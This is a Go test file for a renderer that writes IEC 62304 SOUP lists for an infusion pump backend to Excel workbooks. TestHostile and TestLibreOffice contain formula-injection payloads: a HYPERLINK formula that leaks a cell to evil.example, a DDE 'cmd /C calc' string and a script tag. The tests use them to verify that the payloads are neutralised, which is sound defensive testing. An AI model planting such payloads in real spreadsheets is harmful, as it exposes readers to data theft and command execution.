package xlsx_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"github.com/soupkit/soupkit/internal/golden"
	"github.com/soupkit/soupkit/render"
	"github.com/soupkit/soupkit/render/rendertest"
	"github.com/soupkit/soupkit/render/xlsx"
	"github.com/soupkit/soupkit/soup"
)

func TestConformance(t *testing.T) {
	rendertest.RunText(t, xlsx.Renderer{}, cellText)
}

// workbook renders l and opens the result.
func workbook(t *testing.T, l *soup.List, opts *render.Options) (*excelize.File, []byte) {
	t.Helper()
	var b bytes.Buffer
	if err := (xlsx.Renderer{}).Render(&b, l, opts); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	if err != nil {
		t.Fatalf("the workbook does not open: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f, b.Bytes()
}

// cellText returns the text of every cell of every sheet of a workbook.
func cellText(out []byte) (string, error) {
	f, err := excelize.OpenReader(bytes.NewReader(out))
	if err != nil {
		return "", err
	}
	defer f.Close()
	var b strings.Builder
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			return "", err
		}
		for _, r := range rows {
			b.WriteString(strings.Join(r, "\t"))
			b.WriteByte('\n')
		}
	}
	return b.String(), nil
}

func rows(t *testing.T, f *excelize.File, sheet string) [][]string {
	t.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestSheets(t *testing.T) {
	for _, tc := range []struct {
		name string
		l    *soup.List
		opts *render.Options
		want []string
	}{
		{"full", rendertest.FullList(), &render.Options{Findings: rendertest.FullFindings()},
			[]string{xlsx.SheetControl, xlsx.SheetItems, xlsx.SheetRemoved, xlsx.SheetFindings}},
		{"no findings", rendertest.FullList(), nil,
			[]string{xlsx.SheetControl, xlsx.SheetItems, xlsx.SheetRemoved}},
		{"empty", &soup.List{}, &render.Options{Findings: soup.Findings{}},
			[]string{xlsx.SheetControl, xlsx.SheetItems, xlsx.SheetFindings}},
	} {
		f, _ := workbook(t, tc.l, tc.opts)
		if diff := cmp.Diff(tc.want, f.GetSheetList()); diff != "" {
			t.Errorf("%s: sheets (-want +got):\n%s", tc.name, diff)
		}
		if got := f.GetActiveSheetIndex(); got != 0 {
			t.Errorf("%s: active sheet %d, want 0", tc.name, got)
		}
	}
}

// TestItems reads the SOUP table back and compares it with the view's.
func TestItems(t *testing.T) {
	l := rendertest.FullList()
	cols, err := render.Preset("minimal")
	if err != nil {
		t.Fatal(err)
	}
	opts := &render.Options{Columns: cols}
	f, _ := workbook(t, l, opts)
	v, err := render.NewView(l, opts)
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{v.Status}, // the first row of every table sheet
		{"Name", "Version", "Requirements", "Issue Tracker"},
		{"left-pad", "1.3.0", "NOT DOCUMENTED"},
		{"github.com/google/uuid", "v1.6.0", "Functional: Generate RFC 4122 UUIDs for infusion records\nSoftware: Go 1.22 or later"},
		{"openssl", "3.0.13", "NOT DOCUMENTED"},
		{"flask", "1.1.2", "Functional: Route HTTP requests of the device API to handlers\n" +
			"Performance: Answer 50 requests per second on the target server\n" +
			"Hardware: x86-64 server\nHardware: 512 MiB RAM\nSoftware: CPython 3.8\nSoftware: Werkzeug 1.0",
			"https://github.com/pallets/flask/issues"},
		{"werkzeug", "1.0.1", "Functional: Parse HTTP requests for flask\nPerformance: None beyond flask's\n" +
			"Hardware: None\nSoftware: CPython 3.8", "https://github.com/pallets/werkzeug/issues"},
	}
	if diff := cmp.Diff(want, rows(t, f, xlsx.SheetItems)); diff != "" {
		t.Errorf("SOUP table (-want +got):\n%s", diff)
	}
	// Spreadsheet programs do not fit rows to wrapped text on opening.
	for row, want := range map[int]float64{3: 15, 4: 30, 6: 120} { // two of row 6 wrap
		if h, err := f.GetRowHeight(xlsx.SheetItems, row); err != nil || h != want {
			t.Errorf("row %d: height %v (%v), want %v", row, h, err, want)
		}
	}
	if !v.Draft || !strings.HasPrefix(v.Status, "DRAFT") {
		t.Errorf("status %q: the list has open errors", v.Status)
	}
	if diff := cmp.Diff([][]string{
		{v.Status},
		{"Name", "Version", "Requirements", "Issue Tracker"},
		{"requests", "2.25.0"},
	}, rows(t, f, xlsx.SheetRemoved)); diff != "" {
		t.Errorf("removed items (-want +got):\n%s", diff)
	}
}

// TestEveryItem finds every item of a large list in the workbook.
func TestEveryItem(t *testing.T) {
	const n = 500
	l := rendertest.LargeList(n)
	f, _ := workbook(t, l, nil)
	got := rows(t, f, xlsx.SheetItems)
	if len(got) != n+2 {
		t.Fatalf("%d rows, want a status row, a heading row and %d items", len(got), n)
	}
	names := map[string]bool{}
	for _, r := range got[2:] {
		names[r[1]+" "+r[2]] = true // name, version
	}
	for _, it := range l.Items {
		if !names[it.Name+" "+it.Version] {
			t.Errorf("item %s %s is missing", it.Name, it.Version)
		}
	}
}

// TestLayout checks the sheet's furniture: frozen heading row, autofilter,
// bold heading, wrapped cells, coloured risk levels, widths.
func TestLayout(t *testing.T) {
	f, _ := workbook(t, rendertest.FullList(), nil)
	panes, err := f.GetPanes(xlsx.SheetItems)
	if err != nil {
		t.Fatal(err)
	}
	if !panes.Freeze || panes.YSplit != 2 || panes.TopLeftCell != "A3" {
		t.Errorf("panes = %+v, want the status and heading rows frozen", panes)
	}
	var filter string
	for _, d := range f.GetDefinedName() {
		if d.Name == "_xlnm._FilterDatabase" && d.Scope == xlsx.SheetItems {
			filter = d.RefersTo
		}
	}
	if want := "'SOUP List'!$A$2:$AB$7"; filter != want {
		t.Errorf("autofilter on %q, want %q", filter, want)
	}
	head := rows(t, f, xlsx.SheetItems)[1]
	style := func(cell string) *excelize.Style {
		t.Helper()
		id, err := f.GetCellStyle(xlsx.SheetItems, cell)
		if err != nil {
			t.Fatal(err)
		}
		s, err := f.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	if s := style("A1"); s.Font == nil || !s.Font.Bold || s.Font.Color != "8B0000" {
		t.Error("status cell A1 is not bold dark red (the list has open errors)")
	}
	if s := style("A2"); s.Font == nil || !s.Font.Bold {
		t.Error("heading cell A2 is not bold")
	}
	if s := style("B3"); s.Alignment == nil || !s.Alignment.WrapText {
		t.Error("cell B3 does not wrap its text")
	}
	risk := -1
	for i, h := range head {
		if h == "Risk Level" {
			risk = i + 1
		}
	}
	if risk < 0 {
		t.Fatalf("no Risk Level column in %q", head)
	}
	fills := map[string]string{}
	for r, row := range rows(t, f, xlsx.SheetItems)[2:] {
		cell, _ := excelize.CoordinatesToCellName(risk, r+3)
		if s := style(cell); len(s.Fill.Color) > 0 && risk <= len(row) {
			fills[row[risk-1]] = s.Fill.Color[0]
		}
	}
	if diff := cmp.Diff(map[string]string{"high": "F8D7D5", "medium": "FFECC8", "low": "DCF0DE"}, fills); diff != "" {
		t.Errorf("risk level fills (-want +got):\n%s", diff)
	}
	w, err := f.GetColWidth(xlsx.SheetItems, "A") // ID
	if err != nil {
		t.Fatal(err)
	}
	if w < 8 || w > 20 {
		t.Errorf("width of the ID column = %v, want it to fit SOUP-0001", w)
	}
}

// TestPrintSetup checks the page setup of the item sheet: the paper size
// chosen, landscape, the heading row repeated, and a scale never below
// MinScale: fitted to the page width when the table fits at MinScale or
// more, else at MinScale with the first column repeated on every page.
func TestPrintSetup(t *testing.T) {
	few, err := render.ParseColumns("id,name,version,riskLevel")
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name   string
		r      xlsx.Renderer
		opts   *render.Options
		size   int
		fitted bool
		titles string
	}{
		{"full columns, A4", xlsx.Renderer{}, nil, 9, false, "'SOUP List'!$A:$A,'SOUP List'!$1:$2"},
		{"full columns, Letter", xlsx.Renderer{PageSize: xlsx.Letter}, nil, 1, false, "'SOUP List'!$A:$A,'SOUP List'!$1:$2"},
		{"four columns, Letter", xlsx.Renderer{PageSize: xlsx.Letter}, &render.Options{Columns: few}, 1, true, "'SOUP List'!$1:$2"},
	} {
		var b bytes.Buffer
		if err := tc.r.Render(&b, rendertest.FullList(), tc.opts); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(&b)
		if err != nil {
			t.Fatal(err)
		}
		pl, err := f.GetPageLayout(xlsx.SheetItems)
		if err != nil {
			t.Fatal(err)
		}
		if pl.Size == nil || *pl.Size != tc.size || pl.Orientation == nil || *pl.Orientation != "landscape" {
			t.Errorf("%s: size %v, orientation %v; want %d, landscape", tc.name, deref(pl.Size), deref(pl.Orientation), tc.size)
		}
		props, err := f.GetSheetProps(xlsx.SheetItems)
		if err != nil {
			t.Fatal(err)
		}
		fitted := props.FitToPage != nil && *props.FitToPage
		if fitted != tc.fitted {
			t.Errorf("%s: fitted to the page = %v, want %v", tc.name, fitted, tc.fitted)
		}
		if !fitted && (pl.AdjustTo == nil || *pl.AdjustTo != xlsx.MinScale) {
			t.Errorf("%s: scale %v, want %d", tc.name, deref(pl.AdjustTo), xlsx.MinScale)
		}
		var titles string
		for _, d := range f.GetDefinedName() {
			if d.Name == "_xlnm.Print_Titles" && d.Scope == xlsx.SheetItems {
				titles = d.RefersTo
			}
		}
		if titles != tc.titles {
			t.Errorf("%s: print titles %q, want %q", tc.name, titles, tc.titles)
		}
		// Every column is at least as wide as its heading's longest word
		// needs and at most 60 characters.
		cols, err := f.GetCols(xlsx.SheetItems)
		if err != nil {
			t.Fatal(err)
		}
		for i := range cols {
			name, _ := excelize.ColumnNumberToName(i + 1)
			w, _ := f.GetColWidth(xlsx.SheetItems, name)
			if w < 8 || w > 60 {
				t.Errorf("%s: column %s is %v wide", tc.name, name, w)
			}
		}
		f.Close()
	}
}

func deref[T any](p *T) any {
	if p == nil {
		return nil
	}
	return *p
}

// TestDocumentControl reads the document control sheet back.
func TestDocumentControl(t *testing.T) {
	f, _ := workbook(t, rendertest.FullList(), nil)
	var got []string
	for _, r := range rows(t, f, xlsx.SheetControl) {
		got = append(got, strings.Join(r, "|"))
	}
	text := strings.Join(got, "\n")
	for _, want := range []string{
		"SOUP List — Infusion pump backend 2.4.0",
		"Document ID|SOUP-LIST-001",
		"Revision|7",
		"Date|2026-11-24",
		"Role|Name|Date|Signature",
		"Head of QA|John Roe",
		"Software Architect|Erika Mustermann|2026-11-25",
		"backend.cdx.json|cyclonedx-json@1.6||urn:uuid:3e671687-395b-41f5-a30f-a58921a69b79|2026-11-20T09:30:00Z|syft 1.57.0\ncyclonedx-gomod 1.10.0",
		"Standard|IEC 62304:2006+A1:2015",
		"Compliance Summary",
		"high|Malfunction can lead to irreversible harm.",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("document control sheet lacks %q; it holds:\n%s", want, text)
		}
	}
}

// TestHostile proves that no cell is a formula and that hostile text is
// kept, neutralised where a spreadsheet would evaluate it.
func TestHostile(t *testing.T) {
	l := rendertest.HostileList()
	f, _ := workbook(t, l, &render.Options{Findings: rendertest.HostileFindings()})
	seen := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		rows := rows(t, f, sheet)
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				formula, err := f.GetCellFormula(sheet, cell)
				if err != nil {
					t.Fatal(err)
				}
				if formula != "" {
					t.Errorf("%s!%s is a formula: %q", sheet, cell, formula)
				}
				typ, err := f.GetCellType(sheet, cell)
				if err != nil {
					t.Fatal(err)
				}
				if v != "" && typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
					t.Errorf("%s!%s = %q has type %v, want a string", sheet, cell, v, typ)
				}
				if v != "" && strings.ContainsAny(v[:1], "=+-@\t\r") {
					t.Errorf("%s!%s = %q is not neutralised", sheet, cell, v)
				}
				seen[v] = true
			}
		}
	}
	for _, want := range []string{
		`'=HYPERLINK("http://evil.example/?x="&A1,"HOSTILE06")`,
		"'+HOSTILE07+1",
		"'-HOSTILE08-1",
		"'@HOSTILE09",
		"'\tHOSTILE10 leading tab",
		"'=cmd|' /C calc'!A0 HOSTILE27",
		"'\uff1dHOSTILE28 full-width equals",
		"HOSTILE23 ünïcödé ß 中文 😀 ﬁ",
		"<script>alert('HOSTILE04')</script>",
	} {
		if !seen[want] {
			t.Errorf("no cell holds %q", want)
		}
	}
}

// TestLongCell checks that a value longer than a cell can hold is cut
// visibly, not silently.
func TestLongCell(t *testing.T) {
	l := &soup.List{Items: []soup.Item{{Name: "big", Notes: strings.Repeat("x", 40000)}}}
	cols, err := render.ParseColumns("name,notes")
	if err != nil {
		t.Fatal(err)
	}
	f, _ := workbook(t, l, &render.Options{Columns: cols})
	got := rows(t, f, xlsx.SheetItems)[2][1] // under the status and heading rows
	if n := len(utf16.Encode([]rune(got))); n > excelize.TotalCellChars || !strings.HasSuffix(got, "[truncated: too long for a spreadsheet cell]") {
		t.Errorf("long cell: %d characters ending %q", n, got[max(0, len(got)-60):])
	}
}

// TestDeterministic checks the zip archive: fixed entry times from the
// document date, fixed order, and fixed document properties.
func TestDeterministic(t *testing.T) {
	l := rendertest.FullList()
	_, a := workbook(t, l, nil)
	_, b := workbook(t, rendertest.FullList(), nil)
	if !bytes.Equal(a, b) {
		t.Fatal("two renderings differ")
	}
	zr, err := zip.NewReader(bytes.NewReader(a), int64(len(a)))
	if err != nil {
		t.Fatal(err)
	}
	date := time.Date(2026, time.November, 24, 0, 0, 0, 0, time.UTC)
	var names []string
	for _, zf := range zr.File {
		names = append(names, zf.Name)
		if !zf.Modified.Equal(date) {
			t.Errorf("%s: modified %v, want the document date %v", zf.Name, zf.Modified, date)
		}
	}
	if names[0] != "[Content_Types].xml" {
		t.Errorf("first entry %q, want [Content_Types].xml", names[0])
	}
	for i := 2; i < len(names); i++ {
		if names[i-1] > names[i] {
			t.Errorf("entries not sorted: %q before %q", names[i-1], names[i])
		}
	}
	f, _ := workbook(t, l, nil)
	props, err := f.GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	want := excelize.DocProperties{
		Category: "", ContentStatus: "", Created: "2026-11-24T00:00:00Z", Creator: "soupkit",
		Description: "", Identifier: "SOUP-LIST-001", Keywords: "SOUP, IEC 62304", LastModifiedBy: "soupkit",
		Modified: "2026-11-24T00:00:00Z", Revision: "7", Subject: "SOUP list (IEC 62304) of Infusion pump backend 2.4.0",
		Title: "SOUP List — Infusion pump backend 2.4.0", Language: "", Version: "",
	}
	if diff := cmp.Diff(&want, props); diff != "" {
		t.Errorf("document properties (-want +got):\n%s", diff)
	}
	// The date comes from the options when given.
	_, c := workbook(t, rendertest.FullList(), &render.Options{Date: soup.NewDate(2030, time.January, 2)})
	zr, err = zip.NewReader(bytes.NewReader(c), int64(len(c)))
	if err != nil {
		t.Fatal(err)
	}
	if got := zr.File[0].Modified; !got.Equal(time.Date(2030, time.January, 2, 0, 0, 0, 0, time.UTC)) {
		t.Errorf("with Options.Date: modified %v", got)
	}
}

// TestLibreOffice converts workbooks to CSV with LibreOffice, when it is
// installed: every item of a large list is in the CSV of the SOUP List
// sheet, and the hostile names are text, not evaluated formulas.
func TestLibreOffice(t *testing.T) {
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("LibreOffice (soffice) is not installed")
	}
	if testing.Short() {
		t.Skip("slow")
	}
	dir := t.TempDir()
	// sheet exports the sheets of a workbook to CSV and reads one back.
	sheet := func(name string, workbook []byte, sheet string) [][]string {
		t.Helper()
		in := filepath.Join(dir, name+".xlsx")
		if err := os.WriteFile(in, workbook, 0o644); err != nil {
			t.Fatal(err)
		}
		// Comma, double quote, UTF-8, from line 1, …, every sheet (-1).
		filter := "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
		cmd := exec.Command(soffice, "--headless", "-env:UserInstallation=file://"+filepath.Join(dir, "profile"),
			"--convert-to", filter, "--outdir", dir, in)
		if msg, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("soffice: %v\n%s", err, msg)
		}
		f, err := os.Open(filepath.Join(dir, name+"-"+sheet+".csv"))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		r := csv.NewReader(f)
		r.FieldsPerRecord = -1
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatalf("LibreOffice's CSV of %s: %v", sheet, err)
		}
		return recs
	}

	const n = 300
	l := rendertest.LargeList(n)
	_, out := workbook(t, l, nil)
	got := map[string]bool{}
	for _, rec := range sheet("large", out, xlsx.SheetItems) {
		if len(rec) > 2 {
			got[rec[1]+" "+rec[2]] = true
		}
	}
	for _, it := range l.Items {
		if !got[it.Name+" "+it.Version] {
			t.Errorf("item %s %s is missing from LibreOffice's CSV", it.Name, it.Version)
		}
	}

	cols, err := render.ParseColumns("name")
	if err != nil {
		t.Fatal(err)
	}
	_, out = workbook(t, rendertest.HostileList(), &render.Options{Columns: cols, Sort: render.AsGiven})
	recs := sheet("hostile", out, xlsx.SheetItems)
	names := rendertest.HostileNames()
	if len(recs) != len(names)+1 {
		t.Fatalf("LibreOffice's CSV has %d records, want %d", len(recs), len(names)+1)
	}
	for i, want := range []string{
		5:  `'=HYPERLINK("http://evil.example/?x="&A1,"HOSTILE06")`,
		6:  "'+HOSTILE07+1",
		26: "'=cmd|' /C calc'!A0 HOSTILE27",
	} {
		if want != "" && recs[i+1][0] != want {
			t.Errorf("LibreOffice reads hostile name %d as %q, want %q", i+1, recs[i+1][0], want)
		}
	}
}

// BenchmarkLarge renders 5,000 items with the default (full) columns.
func BenchmarkLarge(b *testing.B) {
	l := rendertest.LargeList(5000)
	var size int
	b.ReportAllocs()
	for b.Loop() {
		var buf bytes.Buffer
		if err := (xlsx.Renderer{}).Render(&buf, l, nil); err != nil {
			b.Fatal(err)
		}
		size = buf.Len()
	}
	b.ReportMetric(float64(size)/1e6, "MB")
}

// TestGolden compares the cells of every sheet of the bundled example with
// the golden file (go test -update rewrites it).
func TestGolden(t *testing.T) {
	f, _ := workbook(t, rendertest.FullList(), &render.Options{Findings: rendertest.FullFindings()})
	var b strings.Builder
	for _, sheet := range f.GetSheetList() {
		fmt.Fprintf(&b, "=== %s ===\n", sheet)
		for i, row := range rows(t, f, sheet) {
			fmt.Fprintf(&b, "%d: %q\n", i+1, row)
		}
	}
	golden.Check(t, "testdata/full.golden", []byte(b.String()))
}

// TestDraft: a workbook of a list with open errors has DRAFT in the
// printed header of every sheet and the status in the first row of the
// table sheets; a required field that is empty says NOT DOCUMENTED.
func TestDraft(t *testing.T) {
	l := rendertest.FullList()
	f, _ := workbook(t, l, &render.Options{Findings: l.Validate(soup.Policy{})})
	for _, sheet := range f.GetSheetList() {
		hf, err := f.GetHeaderFooter(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(hf.OddHeader, "DRAFT") {
			t.Errorf("sheet %q: header %q has no DRAFT", sheet, hf.OddHeader)
		}
	}
	for _, sheet := range []string{xlsx.SheetItems, xlsx.SheetFindings, xlsx.SheetRemoved} {
		if got := rows(t, f, sheet)[0][0]; !strings.HasPrefix(got, "DRAFT — ") {
			t.Errorf("sheet %q: first row %q", sheet, got)
		}
	}
	var found bool
	for _, r := range rows(t, f, xlsx.SheetItems) {
		found = found || slices.Contains(r, render.NotDocumented)
	}
	if !found {
		t.Errorf("no %s in the SOUP table", render.NotDocumented)
	}
	ok := &soup.List{System: soup.System{Name: "viewer", SafetyClass: soup.ClassA}, RiskLevels: soup.RiskLevels{Low: "No harm."},
		Items: []soup.Item{{ID: "SOUP-0001", Name: "lib", Version: "1.0.0", Manufacturer: "Upstream", RiskLevel: soup.RiskLow}}}
	f, _ = workbook(t, ok, nil)
	hf, err := f.GetHeaderFooter(xlsx.SheetItems)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(hf.OddHeader, "DRAFT") || !strings.HasPrefix(rows(t, f, xlsx.SheetItems)[0][0], "Ready for approval") {
		t.Errorf("a list without open errors: header %q, status %q", hf.OddHeader, rows(t, f, xlsx.SheetItems)[0][0])
	}
}
